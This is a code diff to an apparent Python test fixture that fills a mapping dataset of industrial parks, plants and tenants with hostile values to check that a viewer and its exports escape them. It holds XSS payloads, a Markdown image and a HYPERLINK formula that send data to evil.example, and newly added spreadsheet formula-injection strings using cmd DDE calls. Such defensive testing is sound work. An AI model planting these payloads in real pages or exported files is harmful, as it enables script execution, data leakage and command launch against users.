@@ -7,7 +7,8 @@ the viewer and the exports accept like any other. Each value is a different atta
 
 - :data:`IMG`, :data:`SCRIPT`, :data:`SVG`: HTML that runs script when put into ``innerHTML``;
 - :data:`MARKDOWN`: Markdown that fetches an outside image when rendered as Markdown;
-- :data:`FORMULA`: a spreadsheet formula that becomes a live link when a cell starts with ``=``.
+- :data:`FORMULA` (and :data:`FORMULAS`): spreadsheet formulas, live when a cell starts with
+  ``=``, ``+``, ``-``, ``@``, a tab or a carriage return.
 """
 
 from __future__ import annotations
@@ -25,6 +26,9 @@ SCRIPT = "<script>window.__pwned=1</script>"
 SVG = '"><svg onload=alert(1)>'
 MARKDOWN = "![x](http://evil.example/x.png)"
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+#: A formula after each character a spreadsheet may take as the start of one.
+FORMULAS: tuple[str, ...] = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+                             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
 #: Every hostile value, in the order names are given them.
 HOSTILE: tuple[str, ...] = (IMG, SCRIPT, SVG, MARKDOWN, FORMULA)
 #: The values that run script when put into HTML.
@@ -59,9 +63,11 @@ def write_hostile_province(source: str | Path, target: str | Path, *,
                 enumerate(parks["park_code"].iloc[:park_codes])}
     plot_map = {code: hostile(i + 1, f" {i}") for i, code in
                 enumerate(read_layer(target, "plots")["plot_code"])}
-    # Park names are shown in every popup and picker: each one is markup.
+    # Vietnamese names (every popup and picker) are markup, English names formulas.
     names = {code: f"{MARKUP[i % len(MARKUP)]} KCN {i}" for i, code in
              enumerate(parks["park_code"])}
+    names_en = {code: f"{FORMULAS[i % len(FORMULAS)]} IP {i}" for i, code in
+                enumerate(parks["park_code"])}
     plant_names = {pid: hostile(i + 3, f" NMXL {i}") for i, pid in
                    enumerate(read_layer(target, "wastewater_plants")["plant_id"])}
     investors = {pid: hostile(i, f" Co {i}") for i, pid in
@@ -80,12 +86,13 @@ def write_hostile_province(source: str | Path, target: str | Path, *,
         frame = read_layer(target, layer)
         if base == "parks":
             named = by_key("park_code", names)(frame)
-            frame = frame.assign(name_vi=named, name_en=named, developer=named)
+            frame = frame.assign(name_vi=named, name_en=by_key("park_code", names_en)(frame),
+                                 developer=named)
         if base == "wastewater_plants":
             frame = frame.assign(name_vi=by_key("plant_id", plant_names)(frame))
         if base == "tenants":
             frame = frame.assign(investor=by_key("project_id", investors)(frame),
-                                 country=FORMULA)
+                                 country=[FORMULAS[i % len(FORMULAS)] for i in range(len(frame))])
         frame = _renamed(_renamed(frame, "park_code", park_map), "plot_code", plot_map)
         changed[layer] = frame
     if "plan_changes" in layers:
